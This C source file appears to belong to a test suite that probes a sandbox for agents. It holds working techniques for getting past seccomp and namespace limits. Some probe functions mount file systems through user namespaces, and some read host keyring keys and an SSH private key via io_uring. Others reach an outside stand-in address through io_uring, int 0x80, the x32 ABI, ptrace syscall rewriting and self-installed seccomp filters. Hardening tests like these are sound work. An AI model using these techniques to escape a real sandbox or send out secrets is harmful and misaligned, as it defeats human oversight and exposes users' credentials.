/* The kernel's surface: calls that no agent needs, other ways into the same calls, and filters on top of ours. */
#include "probe.h"
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>

#define OUTSIDE "198.51.100.7"

static void write_text(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (write(fd, text, strlen(text)) < 0) perror(path);
    close(fd);
}

/* In a new user name space: mounts a file system over another. */
static void mount_inside(void) {
    struct stat before, after;
    if (stat("/tmp", &before) || mount("none", "/tmp", "tmpfs", 0, NULL) || stat("/tmp", &after)) return;
    if (before.st_dev != after.st_dev) proof();
}
static void user_namespace(void) {
    if (!unshare(CLONE_NEWUSER | CLONE_NEWNS)) mount_inside();
}
static void user_namespace_clone(void) {
    pid_t child = syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
    if (!child) {
        mount_inside();
        _exit(0);
    }
    waitpid(child, NULL, 0);
}
static void user_namespace_clone3(void) {
    struct {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } arguments = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
    pid_t child = syscall(SYS_clone3, &arguments, sizeof arguments);
    if (!child) {
        mount_inside();
        _exit(0);
    }
    waitpid(child, NULL, 0);
}
static void mount_directly(void) {
    /* Without a sandbox in a mount name space of its own, or the host would keep the mount. */
    if (unsandboxed() && unshare(CLONE_NEWNS)) return;
    mount_inside();
}
static void mount_new_api(void) {
    if (unsandboxed() && unshare(CLONE_NEWUSER | CLONE_NEWNS)) return;
    int context = syscall(SYS_fsopen, "tmpfs", 0);
    if (context < 0 || syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0)) return;
    int fd = syscall(SYS_fsmount, context, 0, 0);
    struct stat root;
    if (fd >= 0 && !fstat(fd, &root) && S_ISDIR(root.st_mode)) proof();
}
static void mount_clone_tree(void) {
    if (unsandboxed() && unshare(CLONE_NEWUSER | CLONE_NEWNS)) return;
    int tree = syscall(SYS_open_tree, AT_FDCWD, "/usr", OPEN_TREE_CLONE);
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof writable);
    struct stat bin;
    if (tree >= 0 && !fstatat(tree, "bin", &bin, 0)) proof();
}

static void perf(void) {
    struct perf_event_attr attributes = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attributes, .config = PERF_COUNT_SW_TASK_CLOCK, .exclude_kernel = 1};
    uint64_t value;
    int fd = syscall(SYS_perf_event_open, &attributes, 0, -1, -1, 0);
    if (fd >= 0 && read(fd, &value, sizeof value) == sizeof value) proof();
}
static void bpf_map(void) {
    union bpf_attr attributes = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    if (syscall(SYS_bpf, BPF_MAP_CREATE, &attributes, sizeof attributes) >= 0) proof();
}
static void page_faults(void) {
    struct uffdio_api api = {.api = UFFD_API};
    int fd = syscall(SYS_userfaultfd, O_CLOEXEC | 1);
    if (fd >= 0 && !ioctl(fd, UFFDIO_API, &api)) proof();
}
static void kernel_log(void) {
    char buffer[4096];
    if (klogctl(3, buffer, sizeof buffer) > 0) proof();
}
static void sysctl_write(void) { write_text("/proc/sys/net/ipv4/ip_default_ttl", "77"); }

/* A key of the host's user keyring. */
static void key_read(void) {
    char text[256];
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", arg("key"), 0);
    if (key < 0) key = syscall(SYS_request_key, "user", arg("key"), NULL, 0);
    long length = key < 0 ? -1 : syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text);
    if (length > 0 && write(1, text, length) < 0) return;
}
static void key_add(void) { syscall(SYS_add_key, "user", arg("new-key"), "planted", 7, KEY_SPEC_USER_KEYRING); }

/* io_uring, by hand: one submission, one completion. */
static int ring_do(struct io_uring_sqe *what) {
    struct io_uring_params p = {0};
    int ring = syscall(SYS_io_uring_setup, 4, &p);
    if (ring < 0) return -errno;
    char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return -ENOMEM;
    sqes[0] = *what;
    ((unsigned *)(sq + p.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
    return ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[0].res;
}
static void ring_connect(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct io_uring_sqe connect_it = {.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&to, .off = sizeof to};
    ring_do(&connect_it);
    struct io_uring_sqe send_it = {.opcode = IORING_OP_SEND, .fd = fd, .addr = (uintptr_t)mark(), .len = strlen(mark())};
    ring_do(&send_it);
    poll(NULL, 0, 100);
}
static void ring_open(void) {
    struct io_uring_sqe open_it = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)in("home", ".ssh/id_ed25519")};
    reveal(ring_do(&open_it));
}
static void ring_setup(void) {
    struct io_uring_sqe nothing = {.opcode = IORING_OP_NOP};
    if (ring_do(&nothing) == 0) proof();
}

#ifdef __x86_64__
/* The 32-bit call table, from 64-bit code: socketcall(2) with everything below 4 GB. */
static long int80(long call, long first, long second, long third) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(call), "b"(first), "c"(second), "d"(third) : "memory", "r8", "r9", "r10", "r11");
    return result;
}
static void int80_connect(void) {
    struct low {
        uint32_t arguments[4];
        struct sockaddr_in to;
        char text[128];
    } *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) return;
    low->to = inet4(OUTSIDE, number("port"));
    snprintf(low->text, sizeof low->text, "%s", mark());
    int fd = int80(359, AF_INET, SOCK_STREAM, 0); /* socket */
    int80(362, fd, (long)&low->to, sizeof low->to); /* connect */
    int80(4, fd, (long)low->text, strlen(low->text)); /* write */
    memcpy(low->arguments, (uint32_t[]){AF_INET, SOCK_STREAM, 0}, 12);
    int second = int80(102, 1, (long)low->arguments, 0); /* socketcall */
    memcpy(low->arguments, (uint32_t[]){second, (uint32_t)(uintptr_t)&low->to, sizeof low->to}, 12);
    int80(102, 3, (long)low->arguments, 0);
    int80(4, second, (long)low->text, strlen(low->text));
    poll(NULL, 0, 100);
}
static void x32_connect(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    int fd = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM, 0);
    if (syscall(0x40000000 | SYS_connect, fd, &to, sizeof to)) return;
    syscall(0x40000000 | SYS_write, fd, mark(), strlen(mark()));
    poll(NULL, 0, 100);
}
/* A tracer turns getpid(2) of its child into connect(2), after the filter has looked. */
static void rewritten_call(void) {
    struct sockaddr_in to = inet4(OUTSIDE, number("port"));
    int fd = socket(AF_INET, SOCK_STREAM, 0), status;
    pid_t child = fork();
    if (!child) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        raise(SIGSTOP);
        syscall(SYS_getpid, fd, &to, sizeof to);
        if (write(fd, mark(), strlen(mark())) < 0) _exit(1);
        poll(NULL, 0, 100);
        _exit(0);
    }
    waitpid(child, &status, WUNTRACED);
    for (int stops = 0; stops < 64 && WIFSTOPPED(status); stops++) {
        struct user_regs_struct registers;
        if (!ptrace(PTRACE_GETREGS, child, 0, &registers) && registers.orig_rax == SYS_getpid) {
            registers.orig_rax = SYS_connect;
            ptrace(PTRACE_SETREGS, child, 0, &registers);
        }
        if (ptrace(PTRACE_SYSCALL, child, 0, 0) || waitpid(child, &status, 0) < 0) break;
    }
    kill(child, SIGKILL);
}
#else
static void int80_connect(void) {}
static void x32_connect(void) {}
static void rewritten_call(void) {}
#endif

/* A filter of our own that answers connect(2) through a listener of our own: with "go on". */
static void *let_all_go_on(void *argument) {
    struct seccomp_notif call;
    int listener = *(int *)argument;
    for (;;) {
        memset(&call, 0, sizeof call);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call)) return NULL;
        struct seccomp_notif_resp go_on = {call.id, 0, 0, SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &go_on);
    }
}
static int add_filter(unsigned action, unsigned flags) {
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, action),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof *code, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
}
static void own_listener(void) {
    static int listener;
    pthread_t thread;
    listener = add_filter(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
    if (listener >= 0) pthread_create(&thread, NULL, let_all_go_on, &listener);
    say_tcp(OUTSIDE, number("port"));
}
static void own_allow(void) {
    add_filter(SECCOMP_RET_ALLOW, 0);
    add_filter(SECCOMP_RET_LOG, 0);
    say_tcp(OUTSIDE, number("port"));
}
static void own_trace(void) {
    /* The child's filter hands connect(2) to a tracer, which lets it through. */
    int status;
    pid_t child = fork();
    if (!child) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        raise(SIGSTOP);
        add_filter(SECCOMP_RET_TRACE, 0);
        say_tcp(OUTSIDE, number("port"));
        _exit(0);
    }
    waitpid(child, &status, WUNTRACED);
    ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACESECCOMP);
    for (int stops = 0; stops < 64 && WIFSTOPPED(status); stops++)
        if (ptrace(PTRACE_CONT, child, 0, 0) || waitpid(child, &status, 0) < 0) break;
    kill(child, SIGKILL);
}
static void unknown_action(void) {
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, NULL);
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    prctl(38 /* PR_SET_NO_NEW_PRIVS */, 0, 0, 0, 0);
    say_tcp(OUTSIDE, number("port"));
}

const struct attack sys_attacks[] = {
    {"sys.userns_unshare", user_namespace},
    {"sys.userns_clone", user_namespace_clone},
    {"sys.userns_clone3", user_namespace_clone3},
    {"sys.mount", mount_directly},
    {"sys.mount_new_api", mount_new_api},
    {"sys.mount_clone_tree", mount_clone_tree},
    {"sys.perf_event_open", perf},
    {"sys.bpf", bpf_map},
    {"sys.userfaultfd", page_faults},
    {"sys.syslog", kernel_log},
    {"sys.sysctl", sysctl_write},
    {"sys.key_read", key_read},
    {"sys.key_add", key_add},
    {"sys.io_uring_connect", ring_connect},
    {"sys.io_uring_open", ring_open},
    {"sys.io_uring_setup", ring_setup},
    {"sys.int80", int80_connect},
    {"sys.x32", x32_connect},
    {"sys.rewritten_call", rewritten_call},
    {"sys.own_listener", own_listener},
    {"sys.own_allow_filter", own_allow},
    {"sys.own_trace_filter", own_trace},
    {"sys.undo_filter", unknown_action},
    {0},
};
